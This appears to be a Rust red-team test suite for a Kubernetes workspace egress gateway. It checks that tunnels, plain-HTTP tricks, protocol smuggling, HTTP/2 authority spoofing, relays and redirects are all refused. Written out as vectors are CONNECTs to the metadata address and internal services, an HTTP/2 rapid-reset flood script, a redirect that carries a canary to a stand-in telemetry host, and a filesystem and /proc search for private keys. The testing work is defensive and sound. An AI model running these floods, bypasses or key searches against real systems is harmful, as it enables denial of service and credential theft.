//! Red team, group B: what a workspace asks of the gateway that it should not (B01, B02, B05, B07, B13, B15, B27), and how it is
//! told (`ws egress`).

use anyhow::{Context as _, Result, ensure};
use serde_json::{Value, json};
use ws_tests::{
    probe::canary,
    raw::{Vector, answers},
};

use crate::{
    spellings::arrived,
    way_out::{Out, reading, with_rules},
};

const HOST: &str = "docs.example";

/// The address of the gateway's Service.
async fn gateway(out: &Out<'_>) -> Result<String> {
    out.lab.fields(out.lab.ws_namespace(), "service/ws-gateway", "{.spec.clusterIP}").await
}

/// What the gateway answers a CONNECT.
fn connect(target: &str) -> Vector {
    Vector::plain(format!("CONNECT {target} HTTP/1.1\r\nHost: {target}\r\n\r\n"))
}

pub(crate) fn is_refused(answer: &str) -> bool {
    let status = answer.strip_prefix("HTTP/1.1 ").or_else(|| answer.strip_prefix("HTTP/1.0 "));
    status.is_some_and(|status| ["400 ", "403 ", "421 "].iter().any(|refusal| status.starts_with(refusal)))
}

#[tokio::test]
#[ignore = "needs the lab"]
async fn b01_a_tunnel_and_a_request_lead_only_where_a_rule_leads() -> Result<()> {
    let mut plain = reading("plain", &["static.docs.example"]);
    plain["scheme"] = "http".into();
    with_rules(json!([reading("docs", &[HOST]), plain]), async |out| {
        let gateway = gateway(out).await?;
        let cluster = out.lab.fields("default", "service/kubernetes", "{.spec.clusterIP}").await?;
        let mut targets: Vec<String> = [
            "docs.example:80",
            "docs.example:22",
            "docs.example:8443",
            "docs.example:0",
            "docs.example:65536",
            "docs.example",
            "telemetry.example:443",
            "hidden.example:443",
            "127.0.0.1:443",
            "127.0.0.1:3127",
            "127.0.0.1:3128",
            "localhost:443",
            "localhost.:443",
            "[::1]:443",
            "0.0.0.0:443",
            "169.254.169.254:80",
            "kubernetes.default.svc:443",
            "ws-gateway.ws-system.svc:3128",
            "gateway.ws.internal:80",
            "gateway.ws.internal:3128",
            "20.0.114.80:443",
        ]
        .map(str::to_owned)
        .into();
        targets.extend([format!("{gateway}:3128"), format!("{gateway}:3129"), format!("{cluster}:443")]);
        let mut vectors: Vec<_> = targets.iter().map(|target| connect(target)).collect();
        // Without a tunnel, to another port of a host that a rule names.
        let request = |port: u16| {
            let host = format!("static.docs.example:{port}");
            Vector::plain(format!("GET http://{host}/ HTTP/1.1\r\nHost: {host}\r\n\r\n"))
        };
        for port in [443, 8080] {
            targets.push(format!("port {port}"));
            vectors.push(request(port));
        }
        for (target, answer) in targets.iter().zip(answers(&out.ws, "out", &vectors).await?) {
            ensure!(is_refused(&answer), "{target}: {answer}");
        }
        let allowed = answers(&out.ws, "out", &[connect("docs.example:443")]).await?;
        ensure!(allowed[0].starts_with("HTTP/1.1 200 "), "the control: {allowed:?}");
        let allowed = answers(&out.ws, "out", &[request(80)]).await?;
        ensure!(allowed[0].contains("ws-lab docs"), "the control: {allowed:?}");
        ensure!(!out.lab.resolved()?.contains("telemetry.example."), "a name was asked for");
        Ok(())
    })
    .await
}

#[tokio::test]
#[ignore = "needs the lab"]
async fn b02_plain_http_is_no_way_around_a_rule_for_https() -> Result<()> {
    with_rules(json!([reading("docs", &[HOST])]), async |out| {
        let path = format!("/{}", canary()?);
        let request = |line: &str, host: &str| Vector::plain(format!("{line}\r\n{host}\r\n"));
        let vectors = [
            request(&format!("GET http://{HOST}{path} HTTP/1.1"), &format!("Host: {HOST}\r\n")),
            request(&format!("get http://{HOST}{path} HTTP/1.1"), &format!("Host: {HOST}\r\n")),
            request(&format!("GET http://{HOST}:443{path} HTTP/1.1"), &format!("Host: {HOST}\r\n")),
            request(&format!("GET {path} HTTP/1.1"), &format!("Host: {HOST}\r\n")),
            request(&format!("GET {path} HTTP/1.0"), ""),
            request(&format!("GET http://telemetry.example{path} HTTP/1.1"), &format!("Host: {HOST}\r\n")),
            request(&format!("GET ftp://{HOST}{path} HTTP/1.1"), &format!("Host: {HOST}\r\n")),
            Vector::within(HOST, format!("GET {path} HTTP/1.1\r\nHost: {HOST}\r\n\r\n")).without_tls(),
        ];
        for answer in answers(&out.ws, "out", &vectors).await? {
            ensure!(is_refused(&answer), "{answer}");
        }
        let short = answers(&out.ws, "out", &[Vector::plain(format!("GET {path}\r\n\r\n"))]).await?;
        ensure!(!short[0].contains("200"), "{short:?}");
        ensure!(out.lab.asked(&path)?.is_empty(), "{:?}", out.lab.asked(&path)?);
        out.bash(&format!("curl -sS https://{HOST}{path}")).await?.ok()?;
        ensure!(out.lab.asked(&path)?.len() == 1, "the control arrives");
        Ok(())
    })
    .await
}

#[tokio::test]
#[ignore = "needs the lab"]
async fn b07_a_tunnel_that_is_looked_into_carries_nothing_else() -> Result<()> {
    with_rules(json!([reading("docs", &[HOST])]), async |out| {
        let canary = canary()?;
        let vectors = [
            Vector::within(HOST, format!("SSH-2.0-{canary}\r\n")).without_tls(),
            Vector::within(HOST, format!("\0\x01{canary}\r\n\r\n")).without_tls(),
            Vector::within(HOST, format!("\x05\x01\0{canary}")).without_tls(),
            Vector::within(HOST, format!("\x16\x03\x01\x02\0{canary}")).without_tls(),
            Vector::within(HOST, format!("SSH-2.0-{canary}\r\n")),
            Vector::within(HOST, format!("\x16\x03\x01\x02\0{canary}")),
            Vector::within(
                HOST,
                format!(
                    "GET /{canary} HTTP/1.1\r\nHost: {HOST}\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n\
                     Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\r\n\r\n{canary}"
                ),
            ),
        ];
        for answer in answers(&out.ws, "out", &vectors).await? {
            ensure!(answer.is_empty() || is_refused(&answer), "{answer}");
        }
        ensure!(arrived(out, &canary)?.is_empty(), "something arrived");
        Ok(())
    })
    .await
}

/// Speaks HTTP/2 to `$1` through a tunnel, with the headers of `$2` as JSON; prints status and reason, or what ended it.
const HTTP2: &str = r#"
cat > /tmp/h2.js <<'END'
const net = require('net'), tls = require('tls'), h2 = require('http2');
const [host, headers, mode] = [process.argv[2], JSON.parse(process.argv[3]), process.argv[4]];
const [address, port] = process.env.HTTPS_PROXY.split('//')[1].split(':');
const done = text => { console.log(text); process.exit(0); };
const tunnel = net.connect(port, address, () => tunnel.write(`CONNECT ${host}:443 HTTP/1.1\r\nHost: ${host}:443\r\n\r\n`));
tunnel.once('data', () => {
  const secure = tls.connect({ socket: tunnel, servername: host, ALPNProtocols: ['h2'], rejectUnauthorized: false }, () => {
    const session = h2.connect(`https://${host}`, { createConnection: () => secure });
    session.on('error', error => done('error ' + error.code));
    session.on('goaway', code => done('goaway ' + code));
    if (mode === 'reset') {
      let left = 20000;
      const more = () => {
        for (let i = 0; i < 100 && left > 0; i++, left--) {
          const stream = session.request(headers); stream.on('error', () => {}); stream.close(h2.constants.NGHTTP2_CANCEL);
        }
        if (left > 0) setImmediate(more); else setTimeout(() => done('sent all'), 500);
      };
      return more();
    }
    const stream = session.request(headers);
    let body = '';
    stream.on('response', head => { stream.on('data', d => body += d); stream.on('end', () => done(`${head[':status']} ${head['x-ws-denied'] || ''} ${body}`)); });
    stream.on('error', error => done('error ' + error.code));
  });
});
setTimeout(() => done('nothing'), 20000);
END
node /tmp/h2.js "$1" "$2" "$3"
"#;

pub(crate) async fn http2(out: &Out<'_>, headers: &Value, mode: &str) -> Result<String> {
    let line = format!("set -- {HOST} '{headers}' '{mode}'\n{HTTP2}");
    Ok(out.bash(&line).await?.ok()?.stdout)
}

#[tokio::test]
#[ignore = "needs the lab"]
async fn b05_http2_has_one_authority_and_its_floods_end() -> Result<()> {
    with_rules(json!([reading("docs", &[HOST])]), async |out| {
        let get = |more: Value| {
            let mut headers = json!({":method": "GET", ":path": "/", ":scheme": "https", ":authority": HOST});
            headers
                .as_object_mut()
                .into_iter()
                .for_each(|headers| headers.extend(more.as_object().cloned().unwrap_or_default()));
            headers
        };
        let allowed = http2(out, &get(json!({})), "").await?;
        ensure!(allowed.starts_with("200 ") && allowed.contains("ws-lab docs"), "the control: {allowed}");
        for headers in [
            get(json!({":authority": "hidden.example"})),
            get(json!({"host": "hidden.example"})),
            get(json!({":authority": "api.example"})),
            get(json!({":scheme": "http"})),
            get(json!({":authority": "docs.example:8443"})),
        ] {
            let answer = http2(out, &headers, "").await?;
            ensure!(!answer.starts_with("200 "), "{headers}: {answer}");
        }
        ensure!(!out.lab.resolved()?.contains("hidden.example."), "a name was asked for");
        let reset = http2(out, &get(json!({})), "reset").await?;
        ensure!(
            reset.contains("goaway") || reset.contains("error"),
            "20,000 streams that are taken back: {reset}"
        );
        let after = http2(out, &get(json!({})), "").await?;
        ensure!(after.starts_with("200 "), "it goes on for others: {after}");
        Ok(())
    })
    .await
}

#[tokio::test]
#[ignore = "needs the lab"]
async fn b13_who_passes_on_requests_within_the_pod_gets_the_same_answers() -> Result<()> {
    with_rules(json!([reading("docs", &[HOST])]), async |out| {
        const RELAY: &str = r#"
cat > /tmp/relay.py <<'END'
import os, socket, threading
gateway = os.environ["HTTPS_PROXY"].split("//")[1].split(":")
server = socket.create_server(("127.0.0.1", 8888))
def pump(a, b):
    try:
        while data := a.recv(65536): b.sendall(data)
    except OSError: pass
    b.close()
while True:
    inside, _ = server.accept()
    outside = socket.create_connection((gateway[0], int(gateway[1])))
    for pair in ((inside, outside), (outside, inside)): threading.Thread(target=pump, args=pair, daemon=True).start()
END
python3 /tmp/relay.py & relay=$!
for _ in $(seq 50); do (echo > /dev/tcp/127.0.0.1/8888) 2>/dev/null && break; sleep 0.1; done
for host in docs.example hidden.example; do curl -sS -x http://127.0.0.1:8888 -o /dev/null -w "$host %{http_connect}\n" https://$host/; done
kill $relay"#;
        let relayed = out.bash(RELAY).await?;
        ensure!(relayed.stdout == "docs.example 200\nhidden.example 403\n", "{relayed}");
        Ok(())
    })
    .await
}

#[tokio::test]
#[ignore = "needs the lab"]
async fn who_goes_past_the_agent_is_nobody_to_the_gateway() -> Result<()> {
    with_rules(json!([reading("docs", &[HOST])]), async |out| {
        let gateway = gateway(out).await?;
        let by = |proxy: &str| format!("curl -sS -i --max-time 20 -x {proxy} https://{HOST}/; true");
        let past = out.bash(&by(&format!("http://{gateway}:3128"))).await?.ok()?;
        ensure!(past.stdout.contains("x-ws-denied: not-the-agent"), "{past}");
        ensure!(!past.stdout.contains("ws-lab docs"), "{past}");
        let control = out.bash(&by("$HTTPS_PROXY")).await?.ok()?;
        ensure!(control.stdout.contains("ws-lab docs"), "the control: {control}");
        Ok(())
    })
    .await
}

#[tokio::test]
#[ignore = "needs the lab"]
async fn b15_each_hop_of_a_redirect_is_decided_on() -> Result<()> {
    with_rules(json!([reading("docs", &[HOST])]), async |out| {
        let canary = canary()?;
        let followed =
            out.bash(&format!("curl -sS -L -i --max-time 20 'https://{HOST}/away' -H 'X: {canary}'")).await?;
        ensure!(
            followed.stdout.contains("location: https://telemetry.example/collect"),
            "it is sent there: {followed}"
        );
        ensure!(followed.code != Some(0) && followed.stderr.contains("403"), "{followed}");
        ensure!(!out.lab.sunk()?.contains(&canary), "it arrived");
        ensure!(!out.lab.resolved()?.contains("telemetry.example."), "a name was asked for");
        Ok(())
    })
    .await
}

#[tokio::test]
#[ignore = "needs the lab"]
async fn b27_the_authority_is_in_the_pod_and_its_key_is_not() -> Result<()> {
    with_rules(json!([reading("docs", &[HOST])]), async |out| {
        const SEARCH: &str = "grep -rlsI -e '--BEGIN [A-Z ]*PRIVATE KEY' / --exclude-dir=sys --exclude-dir=proc --exclude-dir=share; \
            cat /proc/[0-9]*/environ 2>/dev/null | tr '\\0' '\\n' | grep -c 'PRIVATE KEY'; \
            openssl x509 -in <(curl -sSv https://docs.example/ 2>/dev/null; echo | openssl s_client -proxy ${HTTPS_PROXY#http://} \
                -connect docs.example:443 -servername docs.example 2>/dev/null | sed -n '/BEGIN/,/END/p') -noout -ext basicConstraints,subjectAltName 2>&1";
        let found = out.bash(SEARCH).await?;
        let text = found.to_string();
        ensure!(text.contains("DNS:docs.example") && !text.contains("CA:TRUE"), "a leaf for the one name: {text}");
        ensure!(!found.stdout.lines().any(|line| line.starts_with('/') && !line.starts_with("/usr/")), "{text}");
        let secret = format!("secrets/ws-gateway-ca -n {}", out.lab.ws_namespace());
        let other = out.bash("curl -sk --max-time 3 https://kubernetes.default.svc/ || echo out of reach").await?;
        ensure!(other.stdout.contains("out of reach"), "{secret}: {other}");
        Ok(())
    })
    .await
}

#[tokio::test]
#[ignore = "needs the lab"]
async fn the_user_sees_each_decision_from_the_gateway_itself() -> Result<()> {
    with_rules(json!([reading("docs", &[HOST])]), async |out| {
        out.bash(&format!("curl -sS https://{HOST}/some/page; curl -s https://telemetry.example/; true"))
            .await?
            .ok()?;
        let shown = out.ws.run(&["egress", "out"]).await?.ok()?;
        let lines: Vec<&str> = shown.stdout.lines().collect();
        ensure!(
            lines.iter().any(|line| line.contains("allowed  GET docs.example/**  404  rule docs")),
            "{shown}"
        );
        ensure!(
            lines.iter().any(|line| line.contains("denied   CONNECT telemetry.example  host-not-allowed")),
            "{shown}"
        );
        let json = out.ws.run(&["egress", "out", "--json"]).await?.ok()?;
        let first: Value = serde_json::from_str(json.stdout.lines().next().context("a line")?)?;
        ensure!(first["seq"] == 1, "{json}");
        // A workspace that answers in the gateway's place is found out.
        let status = r#"{"status": {"egress": {"authority": null}}}"#;
        let patch = [
            "-n",
            out.namespace,
            "patch",
            "workspace",
            "out",
            "--subresource=status",
            "--type=merge",
            "-p",
            status,
        ];
        out.lab.kubectl(&patch).await?.ok()?;
        let unknown = out.ws.run(&["egress", "out"]).await?.code(1)?;
        ensure!(unknown.stderr.contains("does not say how to know its gateway"), "{unknown}");
        Ok(())
    })
    .await
}
